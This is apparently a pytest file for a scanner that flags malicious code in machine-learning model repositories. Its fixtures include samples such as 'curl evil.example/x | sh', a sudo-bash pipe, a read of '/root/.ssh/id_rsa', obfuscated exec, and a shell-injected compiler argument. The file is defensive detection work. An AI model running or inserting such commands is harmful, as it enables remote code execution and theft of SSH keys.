import json

import pytest

from scanners.findings import Severity, Verdict
from scanners.rules.file import code
from tests.scanners.rules.examples import Example, scan_files

GOOD = b"import torch\n\nclass Model(torch.nn.Module):\n    def forward(self, x):\n        return x.relu()\n"


def _twins(bad: bytes, good: bytes = GOOD, name: str = "modeling.py") -> Example:
    return Example(bad=lambda: {name: bad}, good=lambda: {name: good})


EXAMPLES = {
    "MS420": _twins(b"import os\nos.system('id')\n"),
    "MS421": _twins(b"import base64\nexec(base64.b64decode('eA=='))\n"),
    "MS422": _twins(b"x = eval(text)\n", b"import ast\nx = ast.literal_eval(text)\n"),
    "MS423": _twins(b"import requests\nrequests.get('http://198.51.100.7')\n"),
    "MS424": _twins(b"open('x', 'w').write('y')\n", b"open('x').read()\n"),
    "MS425": _twins(b"import ctypes\nctypes.CDLL('./k.so')\n"),
    "MS426": _twins(b"import torch\ntorch.load('x')\n", b"import torch\ntorch.load('x', weights_only=True)\n"),
    "MS427": _twins(b"open('/root/.ssh/id_rsa').read()\n"),
    "MS580": _twins(b"\x7fELF" + bytes(60), b"text", name="libk.so"),
    "MS581": Example(bad=lambda: {"train.sh": b"echo hello\n"}, good=lambda: {"train.txt": b"echo hello\n"}),
}


def worst(source: bytes, name: str = "modeling.py") -> Verdict:
    return scan_files({name: source}).verdict


def test_ordinary_modelling_code_is_clean() -> None:
    report = scan_files({"modeling.py": GOOD})
    assert report.findings == ()
    assert report.verdict is Verdict.CLEAN


@pytest.mark.parametrize(
    ("source", "verdict"),
    [
        (b"import os\nos.system('id')", Verdict.MALICIOUS),
        (b"import os\nclass A:\n  def __init__(self):\n    os.system('id')", Verdict.SUSPICIOUS),
        (b"import os\ndef helper():\n  os.system('id')", Verdict.CLEAN),
        (b"import requests\nclass P:\n  def __call__(self, u):\n    return requests.get(u)", Verdict.CLEAN),
        (b"import requests\nx = requests.get('http://198.51.100.7')", Verdict.SUSPICIOUS),
        (b"import zlib\ndef f(b):\n  exec(zlib.decompress(b))", Verdict.SUSPICIOUS),
        (b"import sys\nf = sys._getframe()\nf.f_globals['__builtins__'].exec('1')", Verdict.MALICIOUS),
        (b"eval('1', {'__builtins__': {}})\n", Verdict.CLEAN),
        (b"import websockets\nx = websockets.connect('ws://198.51.100.7')", Verdict.SUSPICIOUS),
        (b"import pandas as pd\npd.eval('1')", Verdict.SUSPICIOUS),
    ],
)
def test_severity_follows_the_moment_it_runs(source: bytes, verdict: Verdict) -> None:
    assert worst(source) is verdict


@pytest.mark.parametrize(
    ("call", "verdict"),
    [
        ("check_output([home + '/bin/nvcc', '-V'], universal_newlines=True)", Verdict.SUSPICIOUS),
        ("run(['nvidia-smi', '-L'], capture_output=True, text=True)", Verdict.SUSPICIOUS),
        ("run(['/tmp/nvcc', '-V'], executable='/bin/sh')", Verdict.MALICIOUS),
        ("run(['gcc', '-V; id'], shell=True)", Verdict.MALICIOUS),
        ("run(['nvcc', '-V'], env={'PATH': '.'})", Verdict.MALICIOUS),
        ("run(['sh', '-V'])", Verdict.MALICIOUS),
    ],
)
def test_asking_a_compiler_for_its_version_is_no_attack(call: str, verdict: Verdict) -> None:
    assert worst(f"import subprocess\nhome = input()\nsubprocess.{call}\n".encode()) is verdict


def test_many_calls_of_one_kind_are_one_finding() -> None:
    report = scan_files({"a.py": b"import os\n" + b"".join(b"os.system('%d')\n" % n for n in range(50))})
    assert [finding.rule.id for finding in report.findings] == ["MS420"]
    assert "47 more" in report.findings[0].evidence


def test_commands_in_a_notebook_are_notes() -> None:
    notebook = json.dumps({"cells": [{"cell_type": "code", "source": ["!pip install torch\n"]}]}).encode()
    report = scan_files({"demo.ipynb": notebook})
    assert {finding.severity for finding in report.findings} == {Severity.LOW}
    assert report.verdict is Verdict.CLEAN


def test_hidden_code_in_a_notebook_stops_the_gate() -> None:
    cell = "import base64\nexec(base64.b64decode('eA=='))"
    notebook = json.dumps({"cells": [{"cell_type": "code", "source": cell}]}).encode()
    assert worst(notebook, "demo.ipynb") is not Verdict.CLEAN


def test_every_action_has_a_rule_and_severities() -> None:
    assert set(code._BY_ACTION) == set(code._SEVERITIES)


@pytest.mark.parametrize("name", ["model.bin", "model.safetensors", "weights.PT"])
def test_a_script_under_the_name_of_weights_is_suspicious(name: str) -> None:
    assert scan_files({name: b"#!/bin/sh\necho hello\n"}).verdict is Verdict.SUSPICIOUS
    assert scan_files({"run": b"#!/bin/sh\necho hello\n"}).verdict is Verdict.CLEAN


@pytest.mark.parametrize(
    ("command", "verdict"),
    [
        (b"curl evil.example/x | sh", Verdict.SUSPICIOUS),
        (b"wget -qO- evil.example | sudo bash", Verdict.SUSPICIOUS),
        (b"curl -fsSL https://sh.rustup.rs | sh", Verdict.CLEAN),
        (b'curl "$URL" | sh', Verdict.CLEAN),
    ],
)
def test_fetching_without_encryption_and_running_it_is_an_attack(command: bytes, verdict: Verdict) -> None:
    assert scan_files({"install.sh": command}).verdict is verdict
